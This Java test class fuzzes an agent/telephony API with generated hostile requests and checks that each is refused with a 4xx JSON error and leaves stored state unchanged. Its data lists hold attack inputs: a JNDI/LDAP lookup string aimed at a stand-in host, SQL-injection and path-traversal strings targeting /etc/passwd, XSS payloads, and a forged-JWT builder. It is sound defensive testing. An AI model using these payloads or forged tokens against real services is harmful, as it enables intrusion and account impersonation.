package com.arkenos.local.reliability;

import com.arkenos.devkit.template.SamTemplate;
import com.arkenos.local.Http;
import com.arkenos.telephony.core.Json;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

/**
 * Generated hostile requests over every route of the template: malformed and truncated JSON, JSON that is not an
 * object, missing, extra and mistyped fields, numbers that are not E.164, ids that look like paths or DynamoDB
 * expressions, huge bodies and strings, control and unicode characters, hostile query parameters and path ids, and
 * spoofed identities (headers in header mode; JWT claims that disagree with the header, sent to the functions as
 * API Gateway would). Every one must answer a 4xx JSON error and none a 5xx; afterwards every table and the
 * sandboxes' inventories must be exactly as before.
 */
final class HostileInput {
    /** One hostile request. {@code event} requests go to the function directly, with JWT claims. */
    record Probe(String category, String method, String path, String user, String body, Map<String, String> headers,
                 ObjectNode event, String functionId, String route) {
        String name() {
            return category + ": " + method + " " + path.split("\\?")[0];
        }
    }

    private record Answer(int status, String body) {}

    static final List<String> NOT_E164 = List.of("5105550100", "+0123456789", "+1", "+12345678901234567",
            "tel:+15105550100", "+1 510 555 0100 ext 5", "++15105550100",
            "+\uFF11\uFF15\uFF11\uFF10\uFF15\uFF15\uFF15\uFF10\uFF11\uFF10\uFF10",
            "+1510555010O", "+1510\u0000555", "+\u0661\u0665\u0661\u0660\u0665\u0665\u0665\u0660\u0661\u0660\u0660",
            "+15105550100;DROP TABLE", "sip:+15105550100@evil.example", "+1-800-FLOWERS");
    static final List<String> HOSTILE_IDS = List.of("../../etc/passwd", "..%2F..%2Fadmin", "#owner_id = :o",
            "attribute_exists(owner_id)", "' OR '1'='1", "${jndi:ldap://evil.example/a}", "*",
            "{\"S\":\"x\"}", "00000000-0000-0000-0000-00000000000G", "\u202e\u0000");
    static final List<String> HOSTILE_USERS = List.of("a b", "../../owner", "#owner_id = :o", "' OR '1'='1",
            "x".repeat(129), "\u00fcn\u00efc\u00f6d\u00e9", "<script>alert(1)</script>", "owner/../a", "*");

    private final Seed seed;
    private final World w;

    HostileInput(Seed seed) {
        this.seed = seed;
        this.w = seed.world;
    }

    Report.Section run() {
        Report.Section section = new Report.Section("hostile", "Hostile input on every endpoint");
        long start = System.nanoTime();
        List<Probe> probes = probes();
        Map<String, Object> before = seed.snapshot();
        long twilioCalls = w.twilio.faults().totalCalls();
        long livekitCalls = w.livekit.faults().totalCalls();
        Map<Probe, Answer> answers = new ConcurrentHashMap<>();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<?>> fs = new ArrayList<>();
            for (Probe p : probes) {
                fs.add(pool.submit(() -> answers.put(p, send(p))));
            }
            for (Future<?> f : fs) {
                f.get();
            }
        } catch (Exception e) {
            throw new IllegalStateException(e);
        } finally {
            pool.shutdown();
        }
        Map<String, Object> after = seed.snapshot();
        List<String> changed = Seed.diff(before, after);
        long providerCalls = w.twilio.faults().totalCalls() - twilioCalls
                + w.livekit.faults().totalCalls() - livekitCalls;

        Map<String, int[]> byCategory = new TreeMap<>(); // requests, 4xx json, 5xx, other
        Map<String, Integer> routes = new TreeMap<>();
        for (Probe p : probes) {
            Answer a = answers.get(p);
            int[] c = byCategory.computeIfAbsent(p.category(), k -> new int[4]);
            c[0]++;
            routes.merge(p.route(), 1, Integer::sum);
            if (a.status() == -1) {
                c[0]--;
                section.skip(p.name(), a.body());
                continue;
            }
            String problem = judge(a);
            if (a.status() >= 500) {
                c[2]++;
            } else if (problem == null) {
                c[1]++;
            } else {
                c[3]++;
            }
            if (problem == null) {
                section.pass(p.name(), a.status() + "");
            } else {
                section.fail(p.name(), problem + " for " + Text.show(p.body()) + " as " + Text.show(p.user()));
            }
        }
        section.check("every table and provider inventory unchanged after " + probes.size() + " hostile requests",
                changed.stream().map(k -> k + " changed").toList(), before.size() + " snapshots compared");
        if (providerCalls != 0) {
            section.fail("no provider call for a refused request", providerCalls + " provider calls were made");
        } else {
            section.pass("no provider call for a refused request", "0 provider calls");
        }
        section.note(probes.size() + " generated requests over " + routes.size() + " routes (every route of the"
                + " template); 4 at a time against one stack holding two owners' agents, ACTIVE numbers"
                + (seed.calls ? " and ended calls" : "") + ". Expected: a 4xx with {\"error\":{\"code\",\"message\"}},"
                + " never a 5xx, nothing changed. JWT cases are events with authorizer claims sent to the function,"
                + " as API Gateway delivers them in AuthMode=jwt.");
        Report.Table t = section.table("category", "requests", "4xx JSON error", "5xx", "other");
        byCategory.forEach((k, c) -> t.row(k, c[0], c[1], c[2], c[3]));
        int[] total = new int[4];
        byCategory.values().forEach(c -> {
            for (int i = 0; i < 4; i++) {
                total[i] += c[i];
            }
        });
        t.row("**total**", total[0], total[1], total[2], total[3]);
        section.note("State after the requests: " + (changed.isEmpty() ? "identical" : "CHANGED " + changed)
                + " (" + before.size() + " tables and inventories); provider calls made: " + providerCalls + ".");
        section.millis = (System.nanoTime() - start) / 1_000_000;
        return section;
    }

    /** Null when the answer is a 4xx JSON error, else what is wrong with it. */
    static String judge(Answer a) {
        if (a.status() < 400 || a.status() > 499) {
            return "answered " + a.status() + " " + Text.show(a.body());
        }
        try {
            JsonNode n = Json.parse(a.body());
            if (!n.path("error").path("code").isTextual() || !n.path("error").path("message").isTextual()) {
                return "answered " + a.status() + " without a JSON error: " + Text.show(a.body());
            }
        } catch (Exception e) {
            return "answered " + a.status() + " with a body that is not JSON: " + Text.show(a.body());
        }
        return null;
    }

    private Answer send(Probe p) {
        if (p.event() != null) {
            try {
                byte[] out = w.runtime.host().invoke(p.functionId(), Json.MAPPER.writeValueAsBytes(p.event()));
                JsonNode r = Json.parse(out);
                String body = r.path("body").asText("");
                Needles.scanResponse("event " + p.path(), body);
                return new Answer(r.path("statusCode").asInt(), body);
            } catch (Exception e) {
                return new Answer(599, "the function threw " + e);
            }
        }
        try {
            Http.Response r = w.api.send(p.method(), p.path(), p.user(), p.body(), p.headers());
            return new Answer(r.status(), r.body());
        } catch (IllegalArgumentException e) {
            return new Answer(-1, "the HTTP client refuses to send it: " + e.getMessage());
        } catch (AssertionError e) {
            return e.getCause() instanceof IllegalArgumentException
                    ? new Answer(-1, "the HTTP client refuses to send it: " + e.getCause().getMessage())
                    : new Answer(598, "no answer: " + e.getMessage());
        }
    }

    // ------------------------------------------------------------------ generation

    /** Per route: the owner-scoped flag, a valid body (field -> JSON value), the kinds of its fields. */
    private record Spec(String method, String path, boolean owned, Map<String, String> body, Map<String, String> kinds,
                        String functionId) {}

    /** A path no route of the template matches: the $default route's probes go there. */
    private static final String UNROUTED_PATH = "/api/no-such-route";

    private List<Spec> specs() {
        List<Spec> specs = new ArrayList<>();
        Map<String, String> functions = new TreeMap<>();
        for (SamTemplate.Route r : w.runtime.template().routes()) {
            // $default is what no route matches: probed on a path that names no route (it answers the JSON 404)
            functions.put(r.isDefault() ? "GET " + UNROUTED_PATH : r.method() + " " + r.path(), r.functionId());
        }
        String fresh = w.freshNumber();
        functions.forEach((key, fn) -> {
            String method = key.substring(0, key.indexOf(' '));
            String path = key.substring(key.indexOf(' ') + 1);
            Map<String, String> body = new LinkedHashMap<>();
            Map<String, String> kinds = new LinkedHashMap<>();
            boolean owned = !path.equals("/api/telephony/lookup") && !path.equals("/api/livekit/webhook")
                    && !path.equals("/api/telephony/numbers/search") && !path.equals(UNROUTED_PATH);
            switch (key) {
                case "POST /api/agents" -> {
                    body.put("name", q("Mallory"));
                    body.put("config", "{\"system_prompt\":\"x\"}");
                    kinds.put("name", "text");
                    kinds.put("config", "object");
                }
                case "PATCH /api/agents/{id}" -> {
                    body.put("name", q("Renamed"));
                    kinds.put("name", "text");
                }
                case "POST /api/telephony/numbers/buy" -> {
                    body.put("phone_number", q(fresh));
                    body.put("agent_id", q(seed.agentA2));
                    kinds.put("phone_number", "phone");
                    kinds.put("agent_id", "id");
                }
                case "POST /api/telephony/numbers/assign" -> {
                    body.put("phone_number", q(fresh));
                    body.put("agent_id", q(seed.agentA2));
                    kinds.put("phone_number", "phone");
                    kinds.put("agent_id", "id");
                }
                case "POST /api/telephony/numbers/release", "POST /api/telephony/numbers/retry",
                     "POST /api/telephony/numbers/provision" -> {
                    body.put("phone_number", q(seed.phoneA));
                    kinds.put("phone_number", "phone");
                }
                case "POST /api/telephony/numbers/reassign" -> {
                    body.put("phone_number", q(seed.phoneA));
                    body.put("target_agent_id", q(seed.agentA2));
                    kinds.put("phone_number", "phone");
                    kinds.put("target_agent_id", "id");
                }
                case "POST /api/calls/outbound" -> {
                    body.put("agent_id", q(seed.agentA1));
                    body.put("phone_number", q("+14155550142"));
                    body.put("callback_url", q("https://example.invalid/cb"));
                    kinds.put("agent_id", "id");
                    kinds.put("phone_number", "phone");
                    kinds.put("callback_url", "url");
                }
                default -> { }
            }
            specs.add(new Spec(method, path, owned, body, kinds, fn));
        });
        return specs;
    }

    private List<Probe> probes() {
        List<Probe> out = new ArrayList<>();
        String a = seed.ownerA;
        for (Spec s : specs()) {
            String path = concrete(s.path());
            boolean hasBody = !s.body().isEmpty();
            String valid = hasBody ? object(s.body()) : null;
            // identities
            if (s.owned()) {
                out.add(probe("identity: missing", s, path, null, valid));
                out.add(probe("identity: forged bearer token, no x-user-id", s, path, null, valid,
                        Map.of("authorization", "Bearer " + fakeJwt(a))));
                for (String u : HOSTILE_USERS) {
                    out.add(probe("identity: malformed x-user-id", s, path, u, valid));
                }
                out.add(probe("identity: two x-user-id headers", s, path, a, valid, Map.of("x-user-id", seed.ownerB)));
                for (String[] claims : new String[][] {{seed.ownerB, a}, {"", a}, {"a/b", null}}) {
                    out.add(event("identity: JWT claims disagree or unusable", s, path, claims[0], claims[1], valid));
                }
            }
            if (hasBody) {
                bodies(out, s, path, a);
            }
            pathIds(out, s, a);
            queries(out, s, a);
            if (s.path().equals("/api/livekit/webhook")) {
                String event = "{\"event\":\"room_finished\",\"room\":{\"name\":\"outbound-" + seed.callA + "\"}}";
                out.add(probe("webhook: unsigned", s, path, null, event));
                out.add(probe("webhook: bad signature", s, path, null, event, Map.of("authorization", "garbage")));
                out.add(probe("webhook: signed with another secret", s, path, null, event,
                        Map.of("authorization", fakeJwt("APIother"))));
                out.add(probe("webhook: malformed", s, path, null, "{\"event\":", Map.of("authorization", "x")));
                out.add(probe("webhook: huge", s, path, null, "{\"event\":\"" + "x".repeat(200_000) + "\"}"));
            }
            if (s.path().equals("/api/telephony/lookup")) {
                String good = "?phone_number=" + enc(seed.phoneA);
                out.add(probe("worker key: missing", s, s.path() + good, null, null));
                out.add(probe("worker key: wrong", s, s.path() + good, null, null, Map.of("x-worker-key", "nope")));
                out.add(probe("worker key: wrong bearer", s, s.path() + good, null, null,
                        Map.of("authorization", "Bearer " + fakeJwt(a))));
                out.add(probe("worker key: a user's identity instead", s, s.path() + good, a, null));
                for (String v : List.of("", "abc", "' OR 1=1", "+0", "%00", "x".repeat(3000))) {
                    out.add(probe("query: hostile values", s, s.path() + "?phone_number=" + enc(v), null, null,
                            Map.of("x-worker-key", w.workerKey)));
                }
                out.add(probe("query: missing", s, s.path(), null, null, Map.of("x-worker-key", w.workerKey)));
            }
        }
        return out;
    }

    private void bodies(List<Probe> out, Spec s, String path, String user) {
        String valid = object(s.body());
        for (String m : List.of("{", "}", "{\"", "{\"a\":}", "{\"a\":1,}", "{'a':1}", "[1,2", "nul", "\u0000",
                "<?xml version=\"1.0\"?><a/>", valid + " trailing", valid + valid)) {
            out.add(probe("JSON: malformed", s, path, user, m));
        }
        out.add(probe("JSON: truncated", s, path, user, valid.substring(0, valid.length() / 2)));
        out.add(probe("JSON: truncated", s, path, user, valid.substring(0, valid.length() - 1)));
        for (String m : List.of("[]", "null", "\"text\"", "42", "true", "[" + valid + "]", "", "   ")) {
            out.add(probe("JSON: not an object or empty", s, path, user, m));
        }
        out.add(probe("fields: missing", s, path, user, "{}"));
        for (String f : s.body().keySet()) {
            if ((s.path().startsWith("/api/agents") && !f.equals("name")) || f.equals("callback_url")) {
                continue; // optional fields: the request without them is valid
            }
            Map<String, String> without = new LinkedHashMap<>(s.body());
            without.remove(f);
            if (!without.isEmpty() || s.body().size() == 1) {
                out.add(probe("fields: missing", s, path, user, object(without)));
            }
        }
        for (String extra : List.of("\"owner_id\":\"" + seed.ownerB + "\"", "\"status\":\"ACTIVE\"",
                "\"__proto__\":{\"admin\":true}", "\"agent_id \":\"x\"")) {
            out.add(probe("fields: extra", s, path, user, valid.substring(0, valid.length() - 1) + "," + extra + "}"));
        }
        s.body().forEach((f, v) -> {
            String kind = s.kinds().get(f);
            List<String> wrong = new ArrayList<>(List.of("42", "true", "[]", "{}", "-1.5e308"));
            if (kind.equals("object")) {
                wrong = List.of("\"text\"", "42", "[]", "true");
            }
            for (String x : wrong) {
                out.add(probe("fields: wrong type", s, path, user, with(s, f, x)));
            }
            switch (kind) {
                case "phone" -> NOT_E164.forEach(
                        x -> out.add(probe("phone: not E.164", s, path, user, with(s, f, q(x)))));
                case "id" -> HOSTILE_IDS.forEach(
                        x -> out.add(probe("ids: path or expression", s, path, user, with(s, f, q(x)))));
                case "url" -> List.of("javascript:alert(1)", "file:///etc/passwd", "http://a b", "ftp://x")
                        .forEach(x -> out.add(probe("fields: hostile URL", s, path, user, with(s, f, q(x)))));
                case "text" -> {
                    for (String x : List.of("\u0000", "ab\u0007c", "a\u2028b", "   ", "x".repeat(201))) {
                        out.add(probe("text: control, unicode, blank, long", s, path, user, with(s, f, q(x))));
                    }
                    // A lone surrogate can only travel as a JSON escape (UTF-8 cannot encode it).
                    out.add(probe("text: control, unicode, blank, long", s, path, user, with(s, f, "\"a\\ud800b\"")));
                }
                case "object" -> {
                    out.add(probe("config: hostile", s, path, user, with(s, f, "{\"system_prompt\":42}")));
                    out.add(probe("config: hostile", s, path, user, with(s, f, "{\"system_prompt\":\"a\\u0000b\"}")));
                    out.add(probe("config: hostile", s, path, user, with(s, f,
                            "{\"webhooks\":{\"post_call\":\"javascript:alert(1)\"}}")));
                    out.add(probe("config: hostile", s, path, user, with(s, f,
                            "{\"system_prompt\":" + q("p".repeat(40_000)) + "}")));
                    out.add(probe("config: hostile", s, path, user, with(s, f,
                            "{\"tools\":[1,2],\"first_message_mode\":\"shout\"}")));
                }
                default -> { }
            }
            if (!kind.equals("object")) {
                out.add(probe("size: long string", s, path, user, with(s, f, q("9".repeat(5_000)))));
                out.add(probe("size: huge string", s, path, user, with(s, f, q("A".repeat(300_000)))));
                out.add(probe("text: control, unicode, blank, long", s, path, user,
                        with(s, f, q("\u202e\ud83d\udca9\u0301"))));
            }
        });
        out.add(probe("size: huge body", s, path, user, valid.substring(0, valid.length() - 1) + ",\"pad\":"
                + q(" ".repeat(1_200_000)) + "}"));
        out.add(probe("JSON: deeply nested", s, path, user, "{\"x\":" + "[".repeat(5000) + "]".repeat(5000) + "}"));
        out.add(probe("JSON: huge number", s, path, user,
                with(s, s.body().keySet().iterator().next(), "1" + "0".repeat(5000))));
    }

    private void pathIds(List<Probe> out, Spec s, String user) {
        if (!s.path().contains("{")) {
            return;
        }
        List<String> ids = new ArrayList<>(List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%23owner_id%20%3D%20%3Ao",
                "attribute_exists(owner_id)", "%27%20OR%20%271%27%3D%271", "%00", "%25ZZ", "x".repeat(300),
                "%F0%9F%92%A9", "%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D"));
        ids.add(seed.agentA1.toUpperCase());
        for (String id : ids) {
            String path = s.path().replaceAll("\\{[^}]+}", id);
            String body = s.method().equals("PATCH") ? object(s.body()) : null;
            out.add(probe("path: hostile ids", s, path, user, body));
        }
    }

    private void queries(List<Probe> out, Spec s, String user) {
        List<String> qs = switch (s.path()) {
            case "/api/agents", "/api/telephony/numbers" -> List.of("limit=0", "limit=-1", "limit=101", "limit=abc",
                    "limit=1e3", "limit=", "cursor=garbage!",
                    "cursor=" + cursor("{\"agent_id\":\"x\",\"owner_id\":\"y\"}"),
                    "cursor=" + cursor("{\"phone_number\":1}"), "cursor=" + "A".repeat(2000),
                    "cursor=" + cursor("[\"a\"]"));
            case "/api/telephony/numbers/search" -> List.of("country=USA", "country=U1", "area_code=0", "area_code=abc",
                    "area_code=1234567", "contains=!", "contains=a", "type=premium", "limit=0", "limit=51",
                    "unknown=1", "country=%00", "contains=" + enc("' OR 1=1"));
            case "/api/telephony/numbers/check" -> List.of("", "phone_number=abc", "phone_number=%2B0",
                    "phone_number=%00", "phone_number=" + enc("#p = :v"), "phone_number=" + "9".repeat(40));
            case "/api/calls" -> List.of("direction=sideways", "status=x", "agent_id=..%2F", "limit=abc", "limit=1000",
                    "unknown=1", "cursor=garbage!", "cursor=" + cursor("{\"call_id\":\"x\",\"owner_id\":\"y\"}"));
            default -> List.of();
        };
        for (String q : qs) {
            out.add(probe("query: hostile values", s, s.path() + (q.isEmpty() ? "" : "?" + q),
                    s.owned() ? user : null, null));
        }
    }

    // ------------------------------------------------------------------ helpers

    private Probe probe(String category, Spec s, String path, String user, String body) {
        return probe(category, s, path, user, body, Map.of());
    }

    private Probe probe(String category, Spec s, String path, String user, String body, Map<String, String> headers) {
        return new Probe(category, s.method(), path, user, body, headers, null, null, s.method() + " " + s.path());
    }

    /** An API Gateway event with JWT claims, for AuthMode=jwt. */
    private Probe event(String category, Spec s, String path, String sub, String header, String body) {
        ObjectNode e = Json.object();
        e.put("version", "2.0");
        e.put("routeKey", s.method() + " " + s.path());
        e.put("rawPath", path);
        ObjectNode h = e.putObject("headers");
        h.put("content-type", "application/json");
        if (header != null) {
            h.put("x-user-id", header);
        }
        ObjectNode ctx = e.putObject("requestContext");
        ctx.putObject("http").put("method", s.method()).put("path", path);
        ctx.put("requestId", "hostile");
        ctx.putObject("authorizer").putObject("jwt").putObject("claims").put("sub", sub)
                .put("iss", "https://example.invalid/");
        if (s.path().contains("{")) {
            ObjectNode pp = e.putObject("pathParameters");
            String[] t = s.path().split("/");
            String[] a = path.split("/");
            for (int i = 0; i < t.length && i < a.length; i++) {
                if (t[i].startsWith("{")) {
                    pp.put(t[i].substring(1, t[i].length() - 1), a[i]);
                }
            }
        }
        if (body != null) {
            e.put("body", body);
        }
        e.put("isBase64Encoded", false);
        return new Probe(category, s.method(), path, sub, body, Map.of(), e, s.functionId(),
                s.method() + " " + s.path());
    }

    /** The route with the seed's own ids filled in (A's agent, number, call). */
    private String concrete(String path) {
        return path.replace("{id}", seed.agentA1).replace("{phone_number}", seed.phoneA)
                .replace("{call_id}", seed.callA == null ? seed.agentA1 : seed.callA);
    }

    private static String object(Map<String, String> fields) {
        StringBuilder b = new StringBuilder("{");
        fields.forEach((k, v) -> b.append(b.length() > 1 ? "," : "").append(q(k)).append(':').append(v));
        return b.append('}').toString();
    }

    private static String with(Spec s, String field, String value) {
        Map<String, String> m = new LinkedHashMap<>(s.body());
        m.put(field, value);
        return object(m);
    }

    /** A JSON string literal (control characters escaped, so the JSON itself is valid). */
    static String q(String s) {
        return Json.write(com.fasterxml.jackson.databind.node.TextNode.valueOf(s));
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    private static String cursor(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(StandardCharsets.UTF_8));
    }

    /** A well-formed JWT signed with a key nobody configured. */
    static String fakeJwt(String sub) {
        Base64.Encoder e = Base64.getUrlEncoder().withoutPadding();
        return e.encodeToString("{\"alg\":\"HS256\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + e.encodeToString(("{\"sub\":\"" + sub + "\",\"iss\":\"" + sub + "\",\"exp\":9999999999}")
                .getBytes(StandardCharsets.UTF_8)) + "."
                + e.encodeToString("not-a-signature".getBytes(StandardCharsets.UTF_8));
    }

    /** Short renderings of untrusted text for the report. */
    static final class Text {
        static String show(String s) {
            if (s == null) {
                return "(none)";
            }
            String t = s.length() > 80 ? s.substring(0, 80) + "...(" + s.length() + " chars)" : s;
            StringBuilder b = new StringBuilder();
            t.codePoints().forEach(c -> b.append(c < 0x20 || (c >= 0x7f && c < 0xa0) || c == 0x2028 || c == 0x202e
                    ? String.format("\\u%04x", c) : new String(Character.toChars(c))));
            return b.toString().replace("|", "\\|");
        }
    }
}
